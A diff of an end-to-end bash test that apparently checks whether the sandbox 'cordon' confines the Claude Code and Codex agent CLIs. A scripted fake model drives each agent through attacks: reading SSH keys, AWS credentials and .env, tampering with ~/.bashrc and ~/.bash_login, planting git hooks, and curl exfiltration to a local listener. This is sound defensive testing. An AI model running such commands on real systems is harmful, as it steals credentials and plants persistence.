@@ -12,29 +12,38 @@ TAP_PREFIX=agent-e2e${MODE:+-$MODE}/
 SRC=$(realpath "${CORDON_SRC:-$PWD}")
 need_root
 
-# --- the CLI: installed once into a cache outside the repository, reused by later runs --------
+# --- the CLIs: installed once into a cache outside the repository, reused by later runs --------
 CLAUDE_VERSION=2.1.332
-cache=${CORDON_TEST_CACHE:-/var/cache/cordon-tests}/npm/claude-code-$CLAUDE_VERSION
+CODEX_VERSION=0.171.0
+cache=${CORDON_TEST_CACHE:-/var/cache/cordon-tests}/npm
 case $(uname -m) in
-x86_64) plat=linux-x64 ;;
-aarch64) plat=linux-arm64 ;;
-*) cannot suite "no Claude Code build for $(uname -m)" && exit 0 ;;
+x86_64) plat=linux-x64 triple=x86_64-unknown-linux-musl ;;
+aarch64) plat=linux-arm64 triple=aarch64-unknown-linux-musl ;;
+*) cannot suite "no agent CLI build for $(uname -m)" && exit 0 ;;
 esac
-claude_bin=$cache/node_modules/@anthropic-ai/claude-code-$plat/claude
-if [[ ! -x $claude_bin ]]; then
+# npm_install DIR PACKAGE@VERSION: into $cache/DIR (npm's own configuration names the registry;
+# a site's mirror comes from its npmrc). Unreachable: a skip, a failure under CI=true.
+npm_install() {
+	[[ -d $cache/$1/node_modules ]] && return 0
 	command -v npm >/dev/null || { cannot suite "npm is not installed"; exit 0; }
-	rm -rf "$cache.tmp" && mkdir -p "$cache.tmp"
-	# npm's own configuration names the registry; a site's mirror comes from its npmrc.
-	if ! timeout 300 npm install --prefix "$cache.tmp" --no-audit --no-fund --loglevel=error \
-		"@anthropic-ai/claude-code@$CLAUDE_VERSION" >"$cache.tmp.log" 2>&1; then
-		sed 's/^/# /' "$cache.tmp.log" | tail -n 5
-		rm -rf "$cache.tmp"
-		cannot suite "npm could not install @anthropic-ai/claude-code@$CLAUDE_VERSION (registry unreachable?)"
+	rm -rf "$cache/$1.tmp" && mkdir -p "$cache/$1.tmp"
+	# --ignore-scripts: the platform package's binary is used as it is, no install script runs as root.
+	if ! timeout 300 npm install --prefix "$cache/$1.tmp" --ignore-scripts --no-audit --no-fund --loglevel=error \
+		"$2" >"$cache/$1.log" 2>&1; then
+		tail -n 5 "$cache/$1.log" | sed 's/^/# /'
+		rm -rf "$cache/$1.tmp"
+		cannot suite "npm could not install $2 (registry unreachable?)"
 		exit 0
 	fi
-	rm -rf "$cache" && mv "$cache.tmp" "$cache" && rm -f "$cache.tmp.log"
-fi
-[[ -x $claude_bin ]] || { notok "suite (no $claude_bin after npm install)"; exit 1; }
+	mv "$cache/$1.tmp" "$cache/$1" && rm -f "$cache/$1.log"
+}
+npm_install "claude-code-$CLAUDE_VERSION" "@anthropic-ai/claude-code@$CLAUDE_VERSION"
+npm_install "codex-$CODEX_VERSION" "@openai/codex@$CODEX_VERSION"
+claude_bin=$cache/claude-code-$CLAUDE_VERSION/node_modules/@anthropic-ai/claude-code-$plat/claude
+codex_bin=$cache/codex-$CODEX_VERSION/node_modules/@openai/codex-$plat/vendor/$triple/bin/codex
+for b in "$claude_bin" "$codex_bin"; do
+	[[ -x $b ]] || { notok "suite (no $b after npm install)"; exit 1; }
+done
 
 session_setup e2e
 # A user of its own whose home is made fresh for every run: no ~/.claude, no ~/.claude.json.
@@ -46,10 +55,13 @@ mode_setup
 work=$(mktemp -d /tmp/cordon-e2e-work.XXXXXX)
 chmod 755 "$work"
 [[ ${MODE:-root} == daemon ]] && chown "$USER_NAME:" "$work" # the client opens --audit-log as the user
-server_pid=
+
+server_pids=()
 cleanup() {
-	[[ -n $server_pid ]] && kill "$server_pid" 2>/dev/null
-	rm -rf "$proj" "$work"
+	[[ ${#server_pids[@]} -gt 0 ]] && kill "${server_pids[@]}" 2>/dev/null
+	# E2E_KEEP=1 keeps the model's log, the CLI's output and the audit log for a look.
+	[[ -n ${E2E_KEEP:-} ]] && echo "# kept $work" || rm -rf "$work"
+	rm -rf "$proj"
 	mode_cleanup
 }
 trap cleanup EXIT
@@ -60,18 +72,21 @@ tag=$RANDOM$RANDOM
 ssh_secret=E2E-SSH-SECRET-$tag
 aws_secret=E2E-AWS-SECRET-$tag
 env_secret=E2E-DOTENV-SECRET-$tag
-# A fresh home (skeleton files only, the secrets planted, the CLI where its native installer puts
-# it: ~/.local/share/claude/versions/V, a hard link into the cache) and a fresh git project.
+# A fresh home (skeleton files only, the secrets planted, the CLIs where a user's install puts
+# them: Claude Code's native installer in ~/.local/share/claude/versions/V, Codex's release
+# binary on PATH in ~/.local/bin; hard links into the cache) and a fresh git project.
+claude=$home/.local/share/claude/versions/$CLAUDE_VERSION
+codex=$home/.local/bin/codex
 fresh() {
 	rm -rf "$home" && mkdir -p "$home" && cp -a /etc/skel/. "$home/"
-	mkdir -p "$home/.ssh" "$home/.aws" "$home/.local/share/claude/versions"
+	mkdir -p "$home/.ssh" "$home/.aws" "$home/.local/share/claude/versions" "$home/.local/bin"
 	echo "$ssh_secret" >"$home/.ssh/id_ed25519"
 	printf '[default]\naws_secret_access_key = %s\n' "$aws_secret" >"$home/.aws/credentials"
 	chmod 700 "$home/.ssh" && chmod 600 "$home/.ssh/id_ed25519"
-	ln "$claude_bin" "$home/.local/share/claude/versions/$CLAUDE_VERSION" 2>/dev/null ||
-		cp "$claude_bin" "$home/.local/share/claude/versions/$CLAUDE_VERSION"
+	ln "$claude_bin" "$claude" 2>/dev/null || cp "$claude_bin" "$claude"
+	ln "$codex_bin" "$codex" 2>/dev/null || cp "$codex_bin" "$codex"
 	chown -R "$USER_NAME:" "$home"
-	chown root: "$home/.local/share/claude/versions/$CLAUDE_VERSION"
+	chown root: "$claude" "$codex"
 	chmod 755 "$home"
 	find "$proj" -mindepth 1 -delete
 	as_user sh -ec "cd '$proj'
@@ -83,70 +98,117 @@ fresh() {
 		printf '.env\nhello\n' >.gitignore
 		git add -A && git commit -qm initial"
 }
-claude=$home/.local/share/claude/versions/$CLAUDE_VERSION
 hostip=$(ip -4 -o addr show scope global | awk '{split($4, a, "/"); print a[1]; exit}')
 
 # --- the scripted model and its steps ----------------------------------------------------------
 # Legitimate work first and last (the session keeps working after refusals); the attacks between,
-# by Bash and by the CLI's in-process tools. The commit comes after the hook attacks, so a hook
-# planted outside runs there.
-H=$home P=$proj X=$hostip /usr/bin/python3 - >"$work/script.json" <<'PY'
+# by the shell tool and (Claude Code) by the in-process Read/Write/Edit tools. The commit comes
+# after the hook attacks, so a hook planted outside runs there. Codex 0.171 offers a shell tool
+# only (exec_command): its file work goes through the shell.
+script() { # AGENT
+	A=$1 H=$home P=$proj X=$hostip /usr/bin/python3 - <<'PY'
 import json, os
-H, P, X = os.environ["H"], os.environ["P"], os.environ["X"]
-bash = lambda c: ("Bash", {"command": c, "description": "step"})
-steps = [
-    ("l_read_readme", "Read", {"file_path": P + "/README.md"}),
-    ("l_edit_readme", "Edit", {"file_path": P + "/README.md", "old_string": "E2E-README-LINE",
-                               "new_string": "E2E-EDITED-LINE"}),
-    ("l_write_notes", "Write", {"file_path": P + "/notes.txt", "content": "E2E-WRITTEN\n"}),
-    ("l_bash_make", *bash("make && ./hello")),
-    ("a_bash_ssh", *bash("cat ~/.ssh/id_*")),
-    ("a_bash_aws", *bash("cat ~/.aws/credentials")),
-    ("a_bash_env", *bash("cat .env")),
-    ("a_bash_bashrc", *bash("echo 'echo E2E-PWNED-BASH # planted' >> ~/.bashrc && echo APPENDED")),
-    ("a_bash_hook", *bash("printf '#!/bin/sh\\necho E2E-HOOK-RAN\\n' > .git/hooks/pre-commit && "
-                          "chmod +x .git/hooks/pre-commit && echo PLANTED")),
-    ("a_bash_connect_lo", *bash("curl -sS -m 5 -d E2E-EXFIL-LO http://127.0.0.1:@EXFIL_PORT@/lo")),
-    ("a_bash_connect_out", *bash("curl -sS -m 5 -d E2E-EXFIL-OUT http://%s:@EXFIL_PORT@/out" % X)),
-    ("a_read_ssh", "Read", {"file_path": H + "/.ssh/id_ed25519"}),
-    ("a_read_aws", "Read", {"file_path": H + "/.aws/credentials"}),
-    ("a_read_env", "Read", {"file_path": P + "/.env"}),
-    ("a_write_bash_login", "Write", {"file_path": H + "/.bash_login",
-                                     "content": "echo E2E-PWNED-LOGIN\n"}),
-    ("a_read_bashrc", "Read", {"file_path": H + "/.bashrc"}),
-    ("a_edit_bashrc", "Edit", {"file_path": H + "/.bashrc", "old_string": "# ~/.bashrc",
-                               "new_string": "echo E2E-PWNED-EDIT\n# ~/.bashrc"}),
-    ("a_write_hook", "Write", {"file_path": P + "/.git/hooks/post-commit",
-                               "content": "#!/bin/sh\necho E2E-HOOK-RAN\n"}),
-    ("l_bash_commit", *bash("git add -A && git commit -qm 'e2e commit' && git log --oneline -1")),
+A, H, P, X = os.environ["A"], os.environ["H"], os.environ["P"], os.environ["X"]
+if A == "claude":
+    sh = lambda c: ("Bash", {"command": c, "description": "step"})
+else:
+    sh = lambda c: ("exec_command", {"cmd": c, "workdir": P, "login": False})
+if A == "claude":
+    legit = [
+        ("l_read_readme", "Read", {"file_path": P + "/README.md"}),
+        ("l_edit_readme", "Edit", {"file_path": P + "/README.md", "old_string": "E2E-README-LINE",
+                                   "new_string": "E2E-EDITED-LINE"}),
+        ("l_write_notes", "Write", {"file_path": P + "/notes.txt", "content": "E2E-WRITTEN\n"}),
+    ]
+else:
+    legit = [
+        ("l_read_readme", *sh("cat README.md")),
+        ("l_edit_readme", *sh("sed -i s/E2E-README-LINE/E2E-EDITED-LINE/ README.md")),
+        ("l_write_notes", *sh("printf 'E2E-WRITTEN\\n' > notes.txt")),
+    ]
+attacks = [
+    ("a_sh_ssh", *sh("cat ~/.ssh/id_*")),
+    ("a_sh_aws", *sh("cat ~/.aws/credentials")),
+    ("a_sh_env", *sh("cat .env")),
+    ("a_sh_bashrc", *sh("echo 'echo E2E-PWNED-BASH # planted' >> ~/.bashrc && echo APPENDED")),
+    ("a_sh_hook", *sh("printf '#!/bin/sh\\necho E2E-HOOK-RAN\\n' > .git/hooks/pre-commit && "
+                      "chmod +x .git/hooks/pre-commit && echo PLANTED")),
+    ("a_sh_connect_lo", *sh("curl -sS -m 5 -d E2E-EXFIL-LO http://127.0.0.1:@EXFIL_PORT@/lo")),
+    ("a_sh_connect_out", *sh("curl -sS -m 5 -d E2E-EXFIL-OUT http://%s:@EXFIL_PORT@/out" % X)),
 ]
+if A == "claude":
+    attacks += [
+        ("a_read_ssh", "Read", {"file_path": H + "/.ssh/id_ed25519"}),
+        ("a_read_aws", "Read", {"file_path": H + "/.aws/credentials"}),
+        ("a_read_env", "Read", {"file_path": P + "/.env"}),
+        ("a_write_bash_login", "Write", {"file_path": H + "/.bash_login",
+                                         "content": "echo E2E-PWNED-LOGIN\n"}),
+        ("a_read_bashrc", "Read", {"file_path": H + "/.bashrc"}),
+        ("a_edit_bashrc", "Edit", {"file_path": H + "/.bashrc", "old_string": "# ~/.bashrc",
+                                   "new_string": "echo E2E-PWNED-EDIT\n# ~/.bashrc"}),
+        ("a_write_hook", "Write", {"file_path": P + "/.git/hooks/post-commit",
+                                   "content": "#!/bin/sh\necho E2E-HOOK-RAN\n"}),
+    ]
+else:
+    attacks += [
+        ("a_sh_bash_login", *sh("echo 'echo E2E-PWNED-LOGIN' > ~/.bash_login && echo WROTE")),
+        ("a_sh_edit_bashrc", *sh("sed -i '1i echo E2E-PWNED-EDIT' ~/.bashrc && echo EDITED")),
+        ("a_sh_hook2", *sh("printf '#!/bin/sh\\necho E2E-HOOK-RAN\\n' > .git/hooks/post-commit && echo PLANTED")),
+    ]
+final = [("l_sh_make", *sh("make && ./hello")),
+         ("l_sh_commit", *sh("git add -A && git commit -qm 'e2e commit' && git log --oneline -1"))]
+steps = legit + attacks + final
 print(json.dumps({"steps": [{"name": n, "tool": t, "input": i} for n, t, i in steps]}))
 PY
-nsteps=$(/usr/bin/python3 -c 'import json,sys; print(len(json.load(open(sys.argv[1]))["steps"]))' "$work/script.json")
-mkdir -p "$work/log"
-/usr/bin/python3 "$SRC/tests/lib/model_server.py" "$work/script.json" "$work/log" &
-server_pid=$!
-for ((i = 0; i < 50; i++)); do [[ -s $work/log/port ]] && break; sleep 0.1; done
-[[ -s $work/log/port ]] || { notok "model_server_starts"; exit 1; }
-port=$(cat "$work/log/port")
-xport=$(cat "$work/log/exfil_port")
+}
 
-# The CLI's environment: our model, a dummy key, no telemetry, error reports or updates (the
-# variables its documentation names). The same for both runs.
-agent_env=(ANTHROPIC_BASE_URL=http://127.0.0.1:$port ANTHROPIC_API_KEY=sk-ant-e2e-dummy
-	CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC=1 DISABLE_AUTOUPDATER=1 DISABLE_TELEMETRY=1
-	DISABLE_ERROR_REPORTING=1)
-agent_args=(-p "Run the scripted steps." --dangerously-skip-permissions --output-format text)
-# A run of the CLI: its stdout+stderr in $work/out, its logs (requests, tool_results, exfil) fresh.
-reset_log() { rm -rf "$work/log/results" "$work/log/requests.jsonl" "$work/log/exfil.log" && mkdir "$work/log/results"; }
+# The model server for AGENT: its script, port and logs in $work/AGENT.
+start_model() {
+	mkdir -p "$work/$1/log"
+	script "$1" >"$work/$1/script.json"
+	/usr/bin/python3 "$SRC/tests/lib/model_server.py" "$work/$1/script.json" "$work/$1/log" &
+	server_pids+=($!)
+	for ((i = 0; i < 50; i++)); do [[ -s $work/$1/log/port ]] && break; sleep 0.1; done
+	[[ -s $work/$1/log/port ]] || { notok "$1/model_server_starts"; exit 1; }
+}
+start_model claude
+start_model codex
+
+# Each CLI's environment and arguments: our model, a dummy key, no telemetry, error reports or
+# updates (the variables and options their documentation names).
+agent_setup() { # AGENT: sets L (its log dir), port, xport, nsteps, agent_env, agent_cmd, policy
+	L=$work/$1/log
+	port=$(cat "$L/port")
+	xport=$(cat "$L/exfil_port")
+	nsteps=$(/usr/bin/python3 -c 'import json,sys; print(len(json.load(open(sys.argv[1]))["steps"]))' "$work/$1/script.json")
+	policy=$1
+	if [[ $1 == claude ]]; then
+		policy=claude-code
+		agent_env=(ANTHROPIC_BASE_URL=http://127.0.0.1:$port ANTHROPIC_API_KEY=sk-ant-e2e-dummy
+			CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC=1 DISABLE_AUTOUPDATER=1 DISABLE_TELEMETRY=1
+			DISABLE_ERROR_REPORTING=1)
+		agent_cmd=("$claude" -p "Run the scripted steps." --dangerously-skip-permissions
+			--output-format text)
+	else
+		# A provider of our own (the built-in one ignores OPENAI_BASE_URL and tries a WebSocket
+		# first); gpt-5 is a model whose tools Codex knows (an unknown one gets no tools at all).
+		agent_env=(OPENAI_API_KEY=sk-e2e-dummy)
+		agent_cmd=("$codex" exec -m gpt-5 --skip-git-repo-check
+			--dangerously-bypass-approvals-and-sandbox -c model_provider=e2e
+			-c "model_providers.e2e={name=\"e2e\",base_url=\"http://127.0.0.1:$port/v1\",env_key=\"OPENAI_API_KEY\",wire_api=\"responses\"}"
+			-c analytics.enabled=false "Run the scripted steps.")
+	fi
+}
+# A run of the CLI: its stdout+stderr in $L/../out, its logs (requests, tool results, exfil) fresh.
+reset_log() { rm -rf "$L/results" "$L/requests.jsonl" "$L/exfil.log" && mkdir "$L/results"; }
 outside() {
 	reset_log
 	(cd "$proj" && timeout 150 setpriv --reuid="$USER_NAME" --regid="$USER_NAME" --init-groups \
 		env -i PATH=/usr/bin:/bin HOME="$home" USER="$USER_NAME" "${agent_env[@]}" \
-		"$claude" "${agent_args[@]}") </dev/null >"$work/out" 2>&1
+		"${agent_cmd[@]}") </dev/null >"$L/../out" 2>&1
 }
-# Inside: the model's port is allowed for this run only (--allow-connect, recorded in
-# session-start); the policy's @model-apis set is left as shipped.
+# Inside: the model's port is allowed for this run only (--allow-connect); the policy's
+# @model-apis set is left as shipped.
 inside() {
 	local run=$RUN
 	reset_log
@@ -155,75 +217,129 @@ inside() {
 	# variables go there, as a user's shell would have them.
 	run=${run/ $CORDON run/ ${agent_env[*]} $CORDON run}
 	[[ ${MODE:-root} == daemon ]] || run="env ${agent_env[*]} $run"
-	(cd "$proj" && timeout 150 $run --policy claude-code --allow-degraded \
+	(cd "$proj" && timeout 150 $run --policy "$policy" --allow-degraded \
 		--allow-connect "127.0.0.1:$port" --audit-log "$work/audit.jsonl" -- \
-		"$claude" "${agent_args[@]}") </dev/null >"$work/out" 2>&1
+		"${agent_cmd[@]}") </dev/null >"$L/../out" 2>&1
 }
-result() { cat "$work/log/results/$1" 2>/dev/null; }
-has() { grep -qF -- "$2" "$work/log/results/$1" 2>/dev/null; }
-dump() { sed 's/^/# /' "$work/out" | tail -n 20; }
+result() { cat "$L/results/$1" 2>/dev/null; }
+has() { grep -qF -- "$2" "$L/results/$1" 2>/dev/null; }
+dump() { tail -n 20 "$L/../out" | sed 's/^/# /'; }
 # The CLI ran, took every step and reached the end of the script.
 completed() {
 	local n
-	n=$(grep -c '"/v1/messages' "$work/log/requests.jsonl" 2>/dev/null)
-	[[ ${n:-0} -ge $((nsteps + 1)) ]] && grep -q E2E-SCRIPT-DONE "$work/out" &&
-		[[ $(ls "$work/log/results" | wc -l) -eq $nsteps ]]
+	n=$(grep -c '"POST"' "$L/requests.jsonl" 2>/dev/null)
+	[[ ${n:-0} -ge $((nsteps + 1)) ]] && grep -q E2E-SCRIPT-DONE "$L/../out" &&
+		[[ $(ls "$L/results" | wc -l) -eq $nsteps ]]
 }
-leaked() { grep -qF -e "$ssh_secret" -e "$aws_secret" -e "$env_secret" "$work/log/requests.jsonl"; }
+leaked() { grep -qF -e "$ssh_secret" -e "$aws_secret" -e "$env_secret" "$L/requests.jsonl"; }
 bashrc_sum() { sha256sum <"$home/.bashrc"; }
+# A refusal in the audit log: action, errno(s), and a path or a destination (ip:port) it names.
+record() {
+	/usr/bin/python3 - "$work/audit.jsonl" "$@" <<'PY'
+import json, sys
+log, action, code, what = sys.argv[1:5]
+for line in open(log):
+    r = json.loads(line)
+    d = r.get("destination") or {}
+    if (r.get("event", {}).get("action") == action and r.get("error", {}).get("code") in code.split("|")
+            and (what in (r.get("file", {}).get("path") or "") or what == "%s:%s" % (d.get("ip"), d.get("port")))):
+        sys.exit(0)
+sys.exit(1)
+PY
+}
+# The secret-reading steps of the script, as STEP:MARKER.
+secret_steps() {
+	echo "a_sh_ssh:$ssh_secret a_sh_aws:$aws_secret a_sh_env:$env_secret"
+	[[ $1 == claude ]] && echo "a_read_ssh:$ssh_secret a_read_aws:$aws_secret a_read_env:$env_secret"
+}
 
 # --- outside cordon: every attack works (else the test proves nothing) ------------------------
-fresh
-bashrc0=$(bashrc_sum)
-outside
-completed && ok "outside_cli_ran_every_step" || { notok "outside_cli_ran_every_step"; dump; }
-for s in a_bash_ssh:$ssh_secret a_read_ssh:$ssh_secret a_bash_aws:$aws_secret a_read_aws:$aws_secret \
-	a_bash_env:$env_secret a_read_env:$env_secret; do
-	has "${s%%:*}" "${s#*:}" && ok "outside_${s%%:*}_reads_the_secret" || notok "outside_${s%%:*}_reads_the_secret"
-done
-grep -q E2E-PWNED-BASH "$home/.bashrc" && grep -q E2E-PWNED-EDIT "$home/.bashrc" &&
-	ok "outside_bashrc_appended_and_edited" || notok "outside_bashrc_appended_and_edited"
-[[ -e $home/.bash_login ]] && ok "outside_bash_login_written" || notok "outside_bash_login_written"
-[[ -x $proj/.git/hooks/pre-commit && -e $proj/.git/hooks/post-commit ]] && has l_bash_commit E2E-HOOK-RAN &&
-	ok "outside_hooks_planted_and_run_at_commit" || notok "outside_hooks_planted_and_run_at_commit"
-grep -q E2E-EXFIL-LO "$work/log/exfil.log" 2>/dev/null && grep -q E2E-EXFIL-OUT "$work/log/exfil.log" &&
-	ok "outside_connects_reach_the_listener" || notok "outside_connects_reach_the_listener"
+run_outside() {
+	local a=$1 s
+	agent_setup "$a"
+	fresh
+	outside
+	completed && ok "$a/outside_cli_ran_every_step" || { notok "$a/outside_cli_ran_every_step"; dump; }
+	for s in $(secret_steps "$a"); do
+		has "${s%%:*}" "${s#*:}" && ok "$a/outside_${s%%:*}_reads_the_secret" ||
+			notok "$a/outside_${s%%:*}_reads_the_secret"
+	done
+	grep -q E2E-PWNED-BASH "$home/.bashrc" && grep -q E2E-PWNED-EDIT "$home/.bashrc" &&
+		ok "$a/outside_bashrc_appended_and_edited" || notok "$a/outside_bashrc_appended_and_edited"
+	[[ -e $home/.bash_login ]] && ok "$a/outside_bash_login_written" || notok "$a/outside_bash_login_written"
+	[[ -x $proj/.git/hooks/pre-commit && -e $proj/.git/hooks/post-commit ]] && has l_sh_commit E2E-HOOK-RAN &&
+		ok "$a/outside_hooks_planted_and_run_at_commit" || notok "$a/outside_hooks_planted_and_run_at_commit"
+	grep -q E2E-EXFIL-LO "$L/exfil.log" 2>/dev/null && grep -q E2E-EXFIL-OUT "$L/exfil.log" &&
+		ok "$a/outside_connects_reach_the_listener" || notok "$a/outside_connects_reach_the_listener"
+}
 
-# --- inside, first run in a fresh home ---------------------------------------------------------
-fresh
-inside
-rc=$?
-completed && ok "inside_first_run_cli_ran_every_step" || { notok "inside_first_run_cli_ran_every_step (rc=$rc)"; dump; }
-[[ ! -e $home/.claude.json || -L $home/.claude.json ]] && [[ $(stat -c '%U %a' "$home/.claude" 2>/dev/null) == "$USER_NAME 700" ]] &&
-	ok "inside_state_dir_created_0700" || notok "inside_state_dir_created_0700 ($(stat -c '%U %a' "$home/.claude" 2>&1))"
-! grep -q "EACCES\|permission denied, mkdir" "$work/out" && ok "inside_no_state_errors" ||
-	{ notok "inside_no_state_errors"; dump; }
-# Legitimate work, on disk.
-has l_read_readme E2E-README-LINE && ok "legit_read_tool" || notok "legit_read_tool"
-grep -qx E2E-EDITED-LINE "$proj/README.md" && ok "legit_edit_tool" || notok "legit_edit_tool"
-[[ $(cat "$proj/notes.txt" 2>/dev/null) == E2E-WRITTEN ]] && ok "legit_write_tool" || notok "legit_write_tool"
-has l_bash_make HELLO-E2E && [[ -x $proj/hello ]] && ok "legit_bash_make" || notok "legit_bash_make"
-as_user git -C "$proj" log -1 --format=%s 2>/dev/null | grep -qx 'e2e commit' &&
-	as_user git -C "$proj" show --name-only --format= HEAD | grep -qx notes.txt &&
-	ok "legit_bash_git_commit" || { notok "legit_bash_git_commit"; result l_bash_commit | sed 's/^/# /'; }
-# Attacks: refused, nothing of the secret in any request the model got, nothing left behind.
-for s in a_bash_ssh:$ssh_secret a_read_ssh:$ssh_secret a_bash_aws:$aws_secret a_read_aws:$aws_secret \
-	a_bash_env:$env_secret a_read_env:$env_secret; do
-	n=${s%%:*}
-	[[ -e $work/log/results/$n ]] && ! has "$n" "${s#*:}" && ok "refused_$n" ||
-		{ notok "refused_$n"; result "$n" | sed 's/^/# /'; }
-done
-leaked && notok "no_secret_in_any_request" || ok "no_secret_in_any_request"
-[[ $(bashrc_sum) == "$bashrc0" ]] && ok "refused_bashrc_append_and_edit" || notok "refused_bashrc_append_and_edit"
-! has a_bash_bashrc APPENDED && ok "refused_bashrc_bash_says_so" || notok "refused_bashrc_bash_says_so"
-[[ ! -e $home/.bash_login ]] && ok "refused_write_bash_login" || notok "refused_write_bash_login"
-[[ ! -e $proj/.git/hooks/pre-commit && ! -e $proj/.git/hooks/post-commit ]] && ! has l_bash_commit E2E-HOOK-RAN &&
-	ok "refused_git_hooks" || notok "refused_git_hooks"
-[[ ! -s $work/log/exfil.log ]] && ok "refused_connect_out" || { notok "refused_connect_out"; sed 's/^/# /' "$work/log/exfil.log"; }
-for n in a_bash_ssh a_bash_aws a_bash_env a_bash_bashrc a_bash_hook; do
-	grep -qi 'permission denied\|not permitted\|read-only file system\|no such file' "$work/log/results/$n" &&
-		ok "error_text_$n" || { notok "error_text_$n"; result "$n" | sed 's/^/# /'; }
-done
-for n in a_read_ssh a_read_aws a_read_env a_write_bash_login a_write_hook; do
-	grep -q '^ERROR: ' "$work/log/results/$n" && ok "tool_error_$n" || { notok "tool_error_$n"; result "$n" | sed 's/^/# /'; }
+# --- inside, the first run in a fresh home -----------------------------------------------------
+run_inside() {
+	local a=$1 s n rc state
+	agent_setup "$a"
+	fresh
+	local bashrc0
+	bashrc0=$(bashrc_sum)
+	inside
+	rc=$?
+	completed && ok "$a/inside_first_run_cli_ran_every_step" ||
+		{ notok "$a/inside_first_run_cli_ran_every_step (rc=$rc)"; dump; }
+	# Its state directory made for it (0700, the user's), nothing refused while it set up.
+	state=$home/.claude
+	[[ $a == codex ]] && state=$home/.codex
+	[[ $(stat -c '%U %a' "$state" 2>/dev/null) == "$USER_NAME 700" ]] &&
+		ok "$a/inside_state_dir_created_0700" || notok "$a/inside_state_dir_created_0700 ($(stat -c '%U %a' "$state" 2>&1))"
+	# (Codex prints its commands' output too: only refusals naming its state count.)
+	! grep -i "EACCES\|permission denied\|read-only file system" "$L/../out" | grep -q "\.claude\|\.codex" &&
+		ok "$a/inside_no_refusal_of_its_state" ||
+		{ notok "$a/inside_no_refusal_of_its_state"; grep -i "EACCES\|denied\|read-only" "$L/../out" | head -5 | sed 's/^/# /'; }
+	# Legitimate work, on disk.
+	has l_read_readme E2E-README-LINE && ok "$a/legit_read" || notok "$a/legit_read"
+	grep -qx E2E-EDITED-LINE "$proj/README.md" && ok "$a/legit_edit" || notok "$a/legit_edit"
+	[[ $(cat "$proj/notes.txt" 2>/dev/null) == E2E-WRITTEN ]] && ok "$a/legit_write" || notok "$a/legit_write"
+	has l_sh_make HELLO-E2E && [[ -x $proj/hello ]] && ok "$a/legit_make" || { notok "$a/legit_make"; result l_sh_make | sed 's/^/# /'; }
+	as_user git -C "$proj" log -1 --format=%s 2>/dev/null | grep -qx 'e2e commit' &&
+		as_user git -C "$proj" show --name-only --format= HEAD | grep -qx notes.txt &&
+		ok "$a/legit_git_commit" || { notok "$a/legit_git_commit"; result l_sh_commit | sed 's/^/# /'; }
+	# Attacks: refused, nothing of a secret in any request the model got, nothing left behind.
+	for s in $(secret_steps "$a"); do
+		n=${s%%:*}
+		[[ -e $L/results/$n ]] && ! has "$n" "${s#*:}" && ok "$a/refused_$n" ||
+			{ notok "$a/refused_$n"; result "$n" | sed 's/^/# /'; }
+	done
+	leaked && notok "$a/no_secret_in_any_request" || ok "$a/no_secret_in_any_request"
+	[[ $(bashrc_sum) == "$bashrc0" ]] && ok "$a/refused_bashrc_append_and_edit" || notok "$a/refused_bashrc_append_and_edit"
+	[[ ! -e $home/.bash_login ]] && ok "$a/refused_write_bash_login" || notok "$a/refused_write_bash_login"
+	[[ ! -e $proj/.git/hooks/pre-commit && ! -e $proj/.git/hooks/post-commit ]] && ! has l_sh_commit E2E-HOOK-RAN &&
+		ok "$a/refused_git_hooks" || notok "$a/refused_git_hooks"
+	[[ ! -s $L/exfil.log ]] && ok "$a/refused_connect_out" || { notok "$a/refused_connect_out"; sed 's/^/# /' "$L/exfil.log"; }
+	# What the agent was told: the shell's error text, the in-process tools' errors.
+	for n in a_sh_ssh a_sh_aws a_sh_env a_sh_bashrc a_sh_hook; do
+		grep -qi 'permission denied\|not permitted\|read-only file system' "$L/results/$n" &&
+			! grep -q 'APPENDED\|PLANTED' "$L/results/$n" &&
+			ok "$a/error_text_$n" || { notok "$a/error_text_$n"; result "$n" | sed 's/^/# /'; }
+	done
+	for n in a_sh_connect_lo a_sh_connect_out; do
+		grep -q "Couldn't connect\|Failed to connect\|not permitted\|denied" "$L/results/$n" &&
+			ok "$a/error_text_$n" || { notok "$a/error_text_$n"; result "$n" | sed 's/^/# /'; }
+	done
+	if [[ $a == claude ]]; then
+		for n in a_read_ssh a_read_aws a_read_env a_write_bash_login a_edit_bashrc a_write_hook; do
+			grep -q '^ERROR: ' "$L/results/$n" && ok "$a/tool_error_$n" || { notok "$a/tool_error_$n"; result "$n" | sed 's/^/# /'; }
+		done
+	fi
+	# The audit log names each refusal (secrets that exist at start are masked by the view: their
+	# records name mount_ns; writes to protected paths meet the read-only view, EROFS).
+	for s in "ssh:$home/.ssh/id_" "aws:$home/.aws/credentials" "dotenv:$proj/.env"; do
+		check "$a/audit_names_${s%%:*}" record syscall-openat EACCES "${s#*:}"
+	done
+	check "$a/audit_names_bashrc" record syscall-openat "EROFS|EACCES" "$home/.bashrc"
+	check "$a/audit_names_git_hook" record syscall-openat "EROFS|EACCES" hooks/pre-commit
+	check "$a/audit_names_connect_loopback" record syscall-connect "EACCES|EPERM" "127.0.0.1:$xport"
+	check "$a/audit_names_connect_out" record syscall-connect "EACCES|EPERM" "$hostip:$xport"
+}
+
+for a in claude codex; do
+	run_outside "$a"
+	run_inside "$a"
 done
